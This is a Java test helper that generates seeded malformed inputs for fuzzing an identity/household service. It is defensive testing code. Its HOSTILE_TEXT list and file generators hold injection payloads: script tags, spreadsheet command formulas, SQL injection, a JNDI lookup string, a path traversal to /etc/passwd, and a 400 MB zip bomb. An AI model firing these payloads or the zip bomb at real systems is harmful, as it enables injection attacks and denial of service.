package org.yangguang.identity;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.lang.reflect.ParameterizedType;
import java.lang.reflect.RecordComponent;
import java.lang.reflect.Type;
import java.math.BigDecimal;
import java.time.temporal.Temporal;
import java.util.ArrayList;
import java.util.Collection;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * Malformed input of every kind an attacker or a broken client sends, drawn from a seeded random
 * source so that a failure can be replayed: wrong JSON, wrong types, huge strings, invalid ID
 * numbers, negative and absurd amounts, unknown enum names, impossible dates, markup and formula
 * payloads, broken spreadsheets and zip bombs.
 */
final class BadValues {

    /** Text that must be stored (if at all) as harmless text: markup, formulas, control characters. */
    static final List<String> HOSTILE_TEXT = List.of(
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "=HYPERLINK(\"http://x\")",
            "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "'; DROP TABLE household; --", "\" OR 1=1 --",
            "${jndi:ldap://x/a}", "#{7*7}", "../../etc/passwd", "\u0000\u0001\u0002", "\uFFFF\uD800",
            "511999195001010011", "51199919500101001X", "%00", "\r\n\tX");

    private final Random random;

    BadValues(long seed) {
        this.random = new Random(seed);
    }

    /** Bodies that are not JSON at all: no controller can bind them, whatever it accepts. */
    List<String> unparsableJson() {
        return List.of("{", "}", "[", "{\"a\":", "{\"a\":1,}", "{'single':'quotes'}", "\u0000",
                "{\"a\":\"\\uZZZZ\"}", "{" + "\"x\":[".repeat(2000), randomText(64));
    }

    /** JSON of the wrong shape for any request object. */
    List<String> wrongShapeJson() {
        return List.of("", "null", "true", "0", "\"text\"", "[1,2,3]", "[" + "1,".repeat(50_000) + "1]");
    }

    /** A value of the wrong kind for a component of the given type. */
    Object wrongFor(Type type) {
        Class<?> raw = raw(type);
        List<Object> options = new ArrayList<>();
        options.add(huge());
        options.add(List.of(1, 2));
        options.add(Map.of("nested", true));
        if (raw == String.class) {
            options.add(12345);
            options.add(pick(HOSTILE_TEXT));
            options.add(" ");
        } else if (Number.class.isAssignableFrom(raw) || raw.isPrimitive() && raw != boolean.class) {
            options.addAll(List.of("abc", -1, -999_999_999_999L, "1e400", "NaN", 1.5, new BigDecimal("-0.01"),
                    new BigDecimal("99999999999999999999.999"), "12,50"));
        } else if (raw.isEnum()) {
            options.addAll(List.of("NO_SUCH_VALUE", "", 7, pick(HOSTILE_TEXT).toLowerCase()));
        } else if (Temporal.class.isAssignableFrom(raw)) {
            options.addAll(List.of("2026-13-45", "31/12/2026", "yesterday", -1, "9999-99"));
        } else if (raw == boolean.class || raw == Boolean.class) {
            options.addAll(List.of("maybe", 2, "否"));
        } else if (Collection.class.isAssignableFrom(raw)) {
            options.addAll(List.of("not a list", List.of(Map.of("?", "?")), hugeList()));
        } else if (raw.isRecord()) {
            options.addAll(List.of("not an object", 0, objectFor(raw, false)));
        }
        return pick(options);
    }

    /** An object with every component of the record given a wrong (or, optionally, absent) value. */
    Map<String, Object> objectFor(Class<?> record, boolean dropSome) {
        Map<String, Object> body = new LinkedHashMap<>();
        if (!record.isRecord()) {
            body.put("unexpected", pick(HOSTILE_TEXT));
            return body;
        }
        for (RecordComponent component : record.getRecordComponents()) {
            if (dropSome && random.nextInt(3) == 0) {
                continue;
            }
            body.put(component.getName(), random.nextInt(4) == 0 ? pick(HOSTILE_TEXT)
                    : wrongFor(component.getGenericType()));
        }
        if (random.nextBoolean()) {
            body.put("unknownField" + random.nextInt(100), pick(HOSTILE_TEXT));
        }
        return body;
    }

    /** Path variables that name nothing or are not even numbers. */
    List<String> badPathValues() {
        return List.of("-1", "0", "abc", "99999999999999999999", "1.5", "%2e%2e", "%00", "1%20OR%201=1",
                "x".repeat(300));
    }

    /** Query values of the wrong kind. */
    List<String> badQueryValues() {
        return List.of("-1", "abc", "2026-13-45", "%3Cscript%3E", "9".repeat(40), "NO_SUCH_VALUE", "%00",
                "x".repeat(3000));
    }

    /** Files that are not what an .xlsx upload promises. */
    Map<String, byte[]> badFiles() {
        Map<String, byte[]> files = new LinkedHashMap<>();
        files.put("empty.xlsx", new byte[0]);
        files.put("random.xlsx", randomBytes(4096));
        files.put("text.xlsx", "区划代码,户编号\n=cmd|' /C calc'!A0,1\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        files.put("truncated.xlsx", truncatedZip());
        files.put("bomb.xlsx", zipBomb());
        files.put("script.html", "<script>alert(1)</script>".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        return files;
    }

    <T> T pick(List<T> options) {
        return options.get(random.nextInt(options.size()));
    }

    private String huge() {
        return "长".repeat(20_000 + random.nextInt(20_000));
    }

    private List<Integer> hugeList() {
        List<Integer> list = new ArrayList<>();
        for (int i = 0; i < 20_000; i++) {
            list.add(i);
        }
        return list;
    }

    private String randomText(int length) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < length; i++) {
            text.append((char) random.nextInt(0x3000));
        }
        return text.toString();
    }

    private byte[] randomBytes(int length) {
        byte[] bytes = new byte[length];
        random.nextBytes(bytes);
        return bytes;
    }

    /** A zip whose only sheet inflates from a few hundred kilobytes to 400 MB of the same byte. */
    private static byte[] zipBomb() {
        try {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            try (ZipOutputStream zip = new ZipOutputStream(out)) {
                zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
                zip.write("<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>".getBytes());
                zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
                byte[] block = new byte[1 << 20];
                java.util.Arrays.fill(block, (byte) ' ');
                for (int i = 0; i < 400; i++) {
                    zip.write(block);
                }
                zip.closeEntry();
            }
            return out.toByteArray();
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] truncatedZip() {
        byte[] bomb = zipBomb();
        return java.util.Arrays.copyOf(bomb, Math.min(bomb.length, 2000));
    }

    private static Class<?> raw(Type type) {
        if (type instanceof Class<?> c) {
            return c;
        }
        if (type instanceof ParameterizedType p) {
            return (Class<?>) p.getRawType();
        }
        return Object.class;
    }
}
